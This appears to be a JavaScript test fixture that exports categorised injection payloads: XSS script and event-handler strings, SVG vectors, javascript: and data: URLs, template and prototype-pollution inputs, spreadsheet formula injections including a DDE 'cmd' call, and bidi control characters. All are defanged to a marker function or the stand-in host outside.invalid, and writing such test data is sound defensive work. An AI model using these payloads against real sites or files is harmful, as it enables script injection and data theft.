/* payloads - texts that would do something if they were ever taken for more than text: in a page, in an address, in a template, in a
   spreadsheet, or by the marks of writing direction in them. All of them would call __owned, ask outside.invalid, or show that word. */
const RUN = "window.__owned(1)", OUTSIDE = "//outside.invalid/__owned";

const SCRIPTS = [`<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=${OUTSIDE}.js></script>`, `"><script>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `<!--><script>${RUN}</script>-->`, `<script\u00a0>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<noscript><p title="</noscript><script>${RUN}</script>">`];
const HANDLERS = [`<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `" onmouseover="${RUN}" autofocus onfocus="${RUN}`, `' onfocus='${RUN}' autofocus='`, `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<marquee onstart=${RUN}>`, `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${RUN}">`,
  `<img src=\`x\`onerror=${RUN}>`, `<iframe srcdoc="&lt;script&gt;parent.__owned(1)&lt;/script&gt;">`];
const VECTORS = [`<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<math><mtext><img src=x onerror=${RUN}></mtext></math>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`];
const ADDRESSES = [`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `<a href="javascript:${RUN}">x</a>`, `<base href="${OUTSIDE}/">`,
  `<link rel=stylesheet href=${OUTSIDE}.css>`, `<meta http-equiv=refresh content="0;url=${OUTSIDE}">`, `<form action=${OUTSIDE}><button>x</button></form>`, `<img src=${OUTSIDE}.png>`,
  `#/accounts/../../${OUTSIDE}`, `%E0%A4%A/%00?__owned=%`];
const TEMPLATES = [`\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `{account} {value} {0} __owned`, `# __owned\n| a | b |\n===\n[sign] __owned`];
const OBJECTS = [`{"__html":"<img src=x onerror=${RUN}>"}`, `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`, `{"type":"script","props":{"children":"${RUN}"},"key":null,"ref":null}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`, `<\${"script"}>${RUN}<//>`];
const FORMULAS = [`=HYPERLINK("http:${OUTSIDE}","x")`, `=cmd|' /C calc'!A0__owned`, `+1+__owned`, `-1+__owned`, `@SUM(__owned)`, `\t=__owned`, `\r=__owned`, `\n=__owned`, `＝1+__owned`, `＠SUM(__owned)`];
const MARKS = [`\u202e__owned\u2066`, `__owned\u200b\u2028\u2029`, `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;`, `'"\`\\;--__owned`, `\u0001\u001b[31m__owned\u000b\u0085\ufffe\uffff`,
  `${"宽".repeat(900)}__owned`, `${"W".repeat(300)}__owned`];

export const PAYLOADS = [SCRIPTS, HANDLERS, VECTORS, ADDRESSES, TEMPLATES, OBJECTS, FORMULAS, MARKS].flat();
/** One or two of each kind. */
export const FEW = [SCRIPTS[0], SCRIPTS[3], HANDLERS[0], HANDLERS[2], VECTORS[0], ADDRESSES[0], ADDRESSES[11], TEMPLATES[1], OBJECTS[1], FORMULAS[0], FORMULAS[3], MARKS[0], MARKS[4], MARKS[6]];
/** What does something only where it stands first: in an address, in a cell. */
export const FIRST = [...ADDRESSES.slice(0, 4), ...FORMULAS];

/** Each text that is put into the database has one of each, once, behind its first words: what stands behind END is ours. */
export const BEGIN = "〖", END = "〗";
